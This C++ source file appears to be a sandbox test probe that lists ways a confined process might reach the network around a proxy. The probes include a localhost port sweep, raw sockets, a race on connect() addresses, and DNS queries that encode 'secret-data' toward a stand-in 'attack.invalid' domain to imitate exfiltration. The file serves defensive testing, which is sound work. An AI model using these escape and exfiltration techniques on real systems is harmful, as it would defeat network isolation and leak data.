// Ways to the network that do not ask the proxy.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdint>
#include <initializer_list>

#include "helper/probe/probe.h"

namespace leadglass::probe {
namespace {

constexpr int kRaces = 400;
constexpr int kSeconds = 3; // nobody inside answers late; a packet that is lost is not waited for

struct Target {
    sockaddr_storage storage{};
    socklen_t size = 0;
};

Target targetOf(const char* address, int port) {
    Target target;
    const auto netPort = htons(static_cast<std::uint16_t>(port));
    if (strchr(address, ':') != nullptr) {
        auto* six = reinterpret_cast<sockaddr_in6*>(&target.storage);
        six->sin6_family = AF_INET6;
        six->sin6_port = netPort;
        inet_pton(AF_INET6, address, &six->sin6_addr);
        target.size = sizeof *six;
    } else {
        auto* four = reinterpret_cast<sockaddr_in*>(&target.storage);
        four->sin_family = AF_INET;
        four->sin_port = netPort;
        inet_pton(AF_INET, address, &four->sin_addr);
        target.size = sizeof *four;
    }
    return target;
}

// A peer that says something first, or answers `question`, has been reached. Takes `fd`, which may be none.
void judge(Tries& tries, const char* way, int fd, const char* question, size_t size) {
    if (fd < 0 || (size > 0 && send(fd, question, size, MSG_NOSIGNAL) < 0)) {
        tries.add(way, -1);
        close(fd);
        return;
    }
    char answer[512] = {};
    const ssize_t got = recv(fd, answer, sizeof answer - 1, 0);
    if (got > 11 && strncmp(answer, "HTTP/1.1 4", 10) == 0) { // a refusal that says so
        char word[16];
        snprintf(word, sizeof word, "HTTP %d", atoi(answer + 9));
        tries.refused(word);
    } else if (got > 0 && answer[0] == 21) {
        tries.refused("TLS alert");
    } else if (got > 0) {
        tries.worked(way);
    } else {
        tries.refused(got == 0 ? "closed" : errno == EAGAIN ? "no answer" : strerrorname_np(errno));
    }
    close(fd);
}

void exchange(Tries& tries, const char* address, int port, int type, const char* question, size_t size) {
    judge(tries, address, dial(address, port, type), question, size);
}

// A connection from the very port that it is to: nobody listens there (a simultaneous open, RFC 9293 3.5).
bool isToItself(int fd) {
    sockaddr_in here{};
    sockaddr_in there{};
    socklen_t size = sizeof here;
    return getsockname(fd, reinterpret_cast<sockaddr*>(&here), &size) == 0 &&
           getpeername(fd, reinterpret_cast<sockaddr*>(&there), &size) == 0 && here.sin_port == there.sin_port;
}

void direct(const Ground& /*ground*/, Tries& tries) {
    for (const char* address : {"192.0.2.77", "2001:db8::77"}) { // RFC 5737, RFC 3849
        for (const int port : {443, 80, 22, 25, 8080, 61234}) {
            exchange(tries, address, port, SOCK_STREAM, "x\r\n\r\n", 5);
        }
    }
}

void hostPort(const Ground& ground, Tries& tries) {
    for (const char* address : {"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0"}) {
        exchange(tries, address, ground.tcpPort, SOCK_STREAM, "x\r\n\r\n", 5);
    }
}

// Another process changes the address while the kernel reads it: whoever looks at it before the kernel does sees
// something else. Here nobody does: where a connection goes is the kernel's to say.
void race(const Ground& ground, Tries& tries) {
    const Target wanted = targetOf("127.0.0.1", ground.tcpPort);
    const Target harmless = ground.outside ? targetOf("127.0.0.1", 9) : targetOf("192.0.2.88", 80);
    void* shared = mmap(nullptr, sizeof(sockaddr_in), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (shared == MAP_FAILED) {
        tries.add("shared memory", -1);
        return;
    }
    memcpy(shared, &harmless.storage, sizeof(sockaddr_in));
    const pid_t flipper = fork();
    if (flipper == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        for (;;) {
            for (const Target* next : {&wanted, &harmless}) {
                memcpy(shared, &next->storage, sizeof(sockaddr_in));
                asm volatile("" ::: "memory"); // somebody else reads it
            }
        }
    }
    // A refusal at once, as outside, leaves no time for the other process to run.
    const int most = ground.outside ? kRaces * 100 : kRaces;
    for (int i = 0; flipper > 0 && i < most && !tries.anyWorked(); ++i) {
        sched_yield();
        const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        const timeval limit{kSeconds, 0};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
        if (connect(fd, static_cast<sockaddr*>(shared), sizeof(sockaddr_in)) != 0) {
            tries.add("connect", -1);
            close(fd);
        } else {
            judge(tries, "connect", fd, "x\r\n\r\n", 5);
        }
    }
    if (flipper > 0) {
        kill(flipper, SIGKILL);
        waitpid(flipper, nullptr, 0);
    }
    munmap(shared, sizeof(sockaddr_in));
}

// What listens here is ours to defend: nothing but the proxy, which the run is told of.
void ownPorts(const Ground& /*ground*/, Tries& tries) {
    const char* value = getenv("HTTPS_PROXY");
    const char* colon = value == nullptr ? nullptr : strrchr(value, ':');
    const int proxy = colon == nullptr ? 0 : atoi(colon + 1);
    for (int port = 1; port < 65536; ++port) {
        const int fd = port == proxy ? -1 : dial("127.0.0.1", port, SOCK_STREAM);
        if (port == proxy || (fd >= 0 && isToItself(fd))) {
            close(fd);
            continue;
        }
        char word[16];
        snprintf(word, sizeof word, "port %d", port);
        judge(tries, word, fd, "x\r\n\r\n", 5);
    }
}

void datagram(const Ground& ground, Tries& tries) {
    for (const char* address : {"127.0.0.1", "::ffff:127.0.0.1"}) {
        exchange(tries, address, ground.udpPort, SOCK_DGRAM, "x", 1);
    }
    if (ground.outside) {
        return;
    }
    for (const char* address : {"192.0.2.77", "2001:db8::77"}) {
        for (const int port : {443, 123, 4500, 61234}) {
            exchange(tries, address, port, SOCK_DGRAM, "x", 1);
        }
    }
}

} // namespace

// One question for an address (or another type); what the answer says, by its code and address.
void lookUp(Tries& tries, const char* server, const char* name, int type) {
    char packet[300] = {7, 7, 1, 0, 0, 1};
    size_t at = 12;
    for (const char* label = name; *label != 0;) {
        const char* dot = strchrnul(label, '.');
        const auto length = static_cast<size_t>(dot - label);
        packet[at++] = static_cast<char>(length);
        memcpy(packet + at, label, length);
        at += length;
        label = *dot == 0 ? dot : dot + 1;
    }
    packet[at + 2] = static_cast<char>(type);
    packet[at + 4] = 1;
    at += 5;
    const int fd = dial(server, 53, SOCK_DGRAM);
    unsigned char answer[512];
    if (fd < 0 || send(fd, packet, at, 0) < 0) {
        tries.add(name, -1);
        close(fd);
        return;
    }
    const ssize_t size = recv(fd, answer, sizeof answer, 0);
    close(fd);
    if (size < 12) {
        tries.refused(size < 0 && errno != EAGAIN ? strerrorname_np(errno) : "no answer");
        return;
    }
    const int code = answer[3] & 15;
    const bool has = answer[6] != 0 || answer[7] != 0;
    const bool ours = has && ((type == 1 && answer[size - 4] == 198 && (answer[size - 3] & 254) == 18) ||
                              (type == 28 && answer[size - 16] == 0xfd));
    if (has && !ours) {
        tries.worked(name);
    } else {
        char word[40];
        snprintf(word, sizeof word, code != 0 ? "DNS code %d" : ours ? "an address of the run" : "no data", code);
        tries.refused(word);
    }
}

namespace {

void names(const Ground& /*ground*/, Tries& tries) {
    for (const int type : {1, 28, 16, 33, 65, 12}) {
        lookUp(tries, "127.0.0.1", "c2VjcmV0LWRhdGE.dns.attack.invalid", type);
    }
}

void resolver(const Ground& /*ground*/, Tries& tries) {
    for (const char* server : {"192.0.2.53", "2001:db8::53"}) {
        lookUp(tries, server, "c2VjcmV0LWRhdGE.dns.attack.invalid", 1);
        lookUp(tries, server, "c2VjcmV0LWRhdGE.dns.attack.invalid", 16);
        exchange(tries, server, 53, SOCK_STREAM, "\0\x11\7\7\1\0\0\1\0\0\0\0\0\0\1a\0\0\1\0\1", 21);
        exchange(tries, server, 853, SOCK_STREAM, "x", 1);
        exchange(tries, server, 443, SOCK_STREAM, "x", 1);
    }
}

void ping(const Ground& /*ground*/, Tries& tries) {
    tries.add("ICMP socket", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
    tries.add("ICMPv6 socket", socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6));
    for (const int protocol : {1, 4, 6, 17, 41, 47, 255}) {
        tries.add("raw socket", socket(AF_INET, SOCK_RAW, protocol));
        tries.add("raw IPv6 socket", socket(AF_INET6, SOCK_RAW, protocol));
    }
}

// All there are and a few to come, in every type; what the four families of every day are for is elsewhere.
void families(const Ground& /*ground*/, Tries& tries) {
    for (int family = 1; family < 64; ++family) {
        if (family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK) {
            continue;
        }
        for (const int type : {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET}) {
            const int fd = socket(family, type, 0);
            char word[32];
            snprintf(word, sizeof word, "family %d", family);
            tries.add(word, fd);
            close(fd);
        }
    }
}

void netlink(const Ground& /*ground*/, Tries& tries) {
    for (int protocol = 1; protocol < 32; ++protocol) { // 0, routes, is what programs list interfaces with
        for (const int type : {SOCK_RAW, SOCK_DGRAM}) {
            const int fd = socket(AF_NETLINK, type, protocol);
            char word[32];
            snprintf(word, sizeof word, "netlink %d", protocol);
            tries.add(word, fd);
            close(fd);
        }
    }
}

void links(const Ground& /*ground*/, Tries& tries) {
    const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    ifreq request{};
    strcpy(request.ifr_name, "lo");
    tries.add("lo down", ioctl(fd, SIOCSIFFLAGS, &request));
    request.ifr_addr.sa_family = AF_INET;
    tries.add("lo address", ioctl(fd, SIOCSIFADDR, &request));
    const int on = 1;
    tries.add("transparent", setsockopt(fd, SOL_IP, IP_TRANSPARENT, &on, sizeof on));
    tries.add("mark", setsockopt(fd, SOL_SOCKET, SO_MARK, &on, sizeof on));
    tries.add("debug", setsockopt(fd, SOL_SOCKET, SO_DEBUG, &on, sizeof on));
    close(fd);
}

} // namespace

int dial(const char* address, int port, int type) {
    const Target target = targetOf(address, port);
    const int fd = socket(target.storage.ss_family, type | SOCK_CLOEXEC, 0);
    const timeval limit{kSeconds, 0};
    if (fd < 0) {
        return -1;
    }
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit); // connect(2) too
    if (connect(fd, reinterpret_cast<const sockaddr*>(&target.storage), target.size) != 0) {
        const int error = errno;
        close(fd);
        errno = error;
        return -1;
    }
    return fd;
}

const Entry kNetworkTries[] = {{"net-direct", direct},     {"net-host-port", hostPort}, {"net-race", race}, {"net-own-ports", ownPorts}, {"net-dns", names},
                               {"net-resolver", resolver}, {"net-datagram", datagram},  {"net-ping", ping},
                               {"net-families", families}, {"net-netlink", netlink},    {"net-links", links},
                               {nullptr, nullptr}};

} // namespace leadglass::probe
